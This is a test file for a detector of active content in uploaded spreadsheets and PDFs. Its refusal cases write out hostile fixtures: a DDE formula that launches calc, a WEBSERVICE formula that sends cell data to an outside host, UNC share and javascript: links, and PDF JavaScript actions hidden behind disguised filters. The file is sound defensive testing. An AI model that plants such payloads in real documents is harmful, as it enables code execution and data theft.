import { deflateSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import { findActiveData } from '../../../src/content/find-active-data.ts';
import { makeOpenSheet, makeWorkbook, relation, relations } from '../../content/archive.ts';

describe('spreadsheets', () => {
  test.each<[string, Buffer, 'xlsx' | 'ods']>([
    ['a plain workbook', makeWorkbook(), 'xlsx'],
    ['a workbook that adds', makeWorkbook({}, '<f>SUM(A1:A9)&amp;"a|b"</f>'), 'xlsx'],
    ['a picture in a workbook', makeWorkbook({ 'xl/media/image1.png': 'PNG' }), 'xlsx'],
    ['a plain open spreadsheet', makeOpenSheet(), 'ods'],
    ['a link', makeOpenSheet({}, '<text:a xlink:href="https://tea.example/">茶</text:a>'), 'ods'],
  ])('%s is taken', (_, bytes, format) => {
    expect(findActiveData(bytes, format)).toBeUndefined();
  });

  const rels = 'xl/worksheets/_rels/sheet1.xml.rels';
  test.each<[string, Buffer, 'xlsx' | 'ods']>([
    ['a macro in a Han folder', makeOpenSheet({ 'Basic/宏/Module1.xml': '<x/>' }), 'ods'],
    ['keys', makeOpenSheet({ 'Configurations2/accelerator/current.xml': '<x/>' }), 'ods'],
    ['an event', makeOpenSheet({}, '<script:event-listener script:language="ooo:script"/>'), 'ods'],
    ['a script as an address', makeOpenSheet({}, '<a x:href="&#118;nd.sun.star.script:x"/>'), 'ods'],
    ['a share', makeOpenSheet({}, String.raw`<a x:href="\\tea.example\share"/>`), 'ods'],
    ['a share with slashes', makeOpenSheet({}, '<a x:href="//tea.example/share"/>'), 'ods'],
    ['a DDE link', makeOpenSheet({}, '<table:dde-link/>'), 'ods'],
    ['a DDE function', makeOpenSheet({}, '<c table:formula="of:=DDE(&quot;cmd&quot;)"/>'), 'ods'],
    ['an object', makeOpenSheet({ 'Object 1/macro.bin': 'x' }), 'ods'],
    ['an entity', makeOpenSheet({ 'styles.xml': '<!DOCTYPE x [<!ENTITY a "b">]><x/>' }), 'ods'],
    [
      'another encoding',
      makeOpenSheet({ 'styles.xml': '<?xml version="1.0" encoding="UTF-7"?><x/>' }),
      'ods',
    ],
    ['a DDE link to a program', makeWorkbook({ 'xl/externalLinks/externalLink1.xml': '<ddeLink/>' }), 'xlsx'],
    ['an object of a workbook', makeWorkbook({ 'xl/embeddings/oleObject1.bin': 'x' }), 'xlsx'],
    ['a macro by another name', makeWorkbook({ 'xl/vba.bin': 'x' }), 'xlsx'],
    [
      'an object named like a printer',
      makeWorkbook({ [rels]: relations(relation('oleObject', 'x.bin')) }),
      'xlsx',
    ],
    [
      'a template from elsewhere',
      makeWorkbook({
        [rels]: relations(relation('image', 'https://tea.example/x', ' TargetMode="External"')),
      }),
      'xlsx',
    ],
    ...[
      'file://tea.example/x',
      'javascript:alert(1)',
      'ms-word:ofe|u|x',
      String.raw`\\tea.example\share\x`,
      '//tea.example/share/x',
      String.raw`/\tea.example\share`,
      String.raw` \\tea.example\share`,
    ].map((target): [string, Buffer, 'xlsx'] => [
      `a link to ${target}`,
      makeWorkbook({ [rels]: relations(relation('hyperlink', target, ' TargetMode="External"')) }),
      'xlsx',
    ]),
    ['a connection', makeWorkbook({ 'xl/connections.xml': '<connections/>' }), 'xlsx'],
    ['a program in a formula', makeWorkbook({}, "<f>cmd|'/C calc'!A0</f>"), 'xlsx'],
    [
      'a function that sends',
      makeWorkbook({}, '<f>_xlfn.WEBSERVICE("https://tea.example/"&amp;A1)</f>'),
      'xlsx',
    ],
    ['bytes before the archive', Buffer.concat([Buffer.from('PK'), makeWorkbook()]), 'xlsx'],
    ['bytes after the archive', Buffer.concat([makeWorkbook(), Buffer.from('x')]), 'xlsx'],
    ['no archive', Buffer.from('PKxl/workbook.xml'), 'xlsx'],
  ])('%s is refused', (_, bytes, format) => {
    expect(findActiveData(bytes, format)).toBeDefined();
  });
});

describe('PDF', () => {
  const action = '5 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>';
  const pdf = (dictionary: string, word: string, data: string | Buffer) =>
    Buffer.concat([
      Buffer.from(`%PDF-1.7\n1 0 obj\n${dictionary}\n${word}`),
      Buffer.from(data),
      Buffer.from('\nendstream\nendobj\n'),
    ]);
  const objects = '/Type /ObjStm /N 1 /First 4';
  const packed = deflateSync(action);
  const hex = Buffer.from(action).toString('hex');

  test.each<[string, Buffer]>([
    ['a stream as it is', pdf('<< /Length 9 >>', 'stream\n', 'BT (stream of tea) Tj ET')],
    ['a packed page', pdf('<< /Filter /FlateDecode >>', 'stream\r\n', deflateSync('BT (tea) Tj ET'))],
    [
      'packed objects',
      pdf(`<< ${objects} /Filter /FlateDecode >>`, 'stream\n', deflateSync('5 0 << /Type /Page >>')),
    ],
    [
      'a photograph',
      pdf('<< /Subtype /Image /Filter /DCTDecode >>', 'stream\n', Buffer.from([255, 216, 255])),
    ],
  ])('%s is taken', (_, bytes) => {
    expect(findActiveData(bytes, 'pdf')).toBeUndefined();
  });

  test.each<[string, Buffer]>([
    ['an action in packed objects', pdf(`<< ${objects} /Filter /FlateDecode >>`, 'stream\n', packed)],
    ['an object in a string', pdf(`<< ${objects} /Filter /ASCIIHexDecode /X ( obj) >>`, 'stream\n', hex)],
    [
      'objects that end in a string',
      pdf(`<< ${objects} /Filter /ASCIIHexDecode /X (endobj endstream) >>`, 'stream\n', hex),
    ],
    [
      'a filter far above',
      pdf(`<< ${objects} /Filter /ASCIIHexDecode ${' '.repeat(1100)} >>`, 'stream\n', hex),
    ],
    ['a filter spelled by codes', pdf(`<< ${objects} /Filter /ASCII#38#35Decode >>`, 'stream\n', hex)],
    ['a short name of a filter', pdf(`<< ${objects} /Filter /AHx >>`, 'stream\n', hex)],
    ['a filter that is named elsewhere', pdf(`<< ${objects} /Filter 7 0 R >>`, 'stream\n', hex)],
    ['a space after the word', pdf(`<< ${objects} /Filter /FlateDecode >>`, 'stream \n', packed)],
    ['a remark after the word', pdf(`<< ${objects} /Filter /FlateDecode >>`, 'stream%x\n', packed)],
    ['a lone return after the word', pdf(`<< ${objects} /Filter /FlateDecode >>`, 'stream\r', packed)],
    ['objects without their name', pdf('<< /N 1 /First 4 /Filter /FlateDecode >>', 'stream \n', packed)],
    [
      'objects packed twice',
      pdf(`<< ${objects} /Filter [ /FlateDecode /FlateDecode ] >>`, 'stream\n', deflateSync(packed)),
    ],
    [
      'objects with a predictor',
      pdf(
        `<< ${objects} /Filter /FlateDecode /DecodeParms << /Predictor 2 >> >>`,
        'stream\n',
        deflateSync('x'),
      ),
    ],
    [
      'objects that break off',
      pdf(`<< ${objects} /Filter /FlateDecode >>`, 'stream\n', packed.subarray(0, -6)),
    ],
    [
      'a photograph as a decoy',
      pdf(`<< /Filter /DCTDecode >>\nendobj\n2 0 obj << ${objects} /Filter 7 0 R >>`, 'stream\n', hex),
    ],
    [
      'a stream that is none, above',
      pdf(`<< ${objects} /Filter /AHx /X (endstream) >>`, 'stream\n', hex).fill('%stream', 9, 16),
    ],
    ['a cipher', Buffer.from('%PDF-1.7\ntrailer << /Encrypt 3 0 R >>\n')],
  ])('%s is refused', (_, bytes) => {
    expect(findActiveData(bytes, 'pdf')).toBeDefined();
  });

  test('what is long takes no long time', () => {
    const begin = performance.now();
    for (const part of ['stream\n', '/Filter stream ', '/OpenAction ', '#41', '/AA ', 'endstream '])
      findActiveData(Buffer.from(`%PDF-1.7\n${part.repeat(1_000_000 / part.length)}`), 'pdf');
    expect(performance.now() - begin).toBeLessThan(5_000);
  });
});
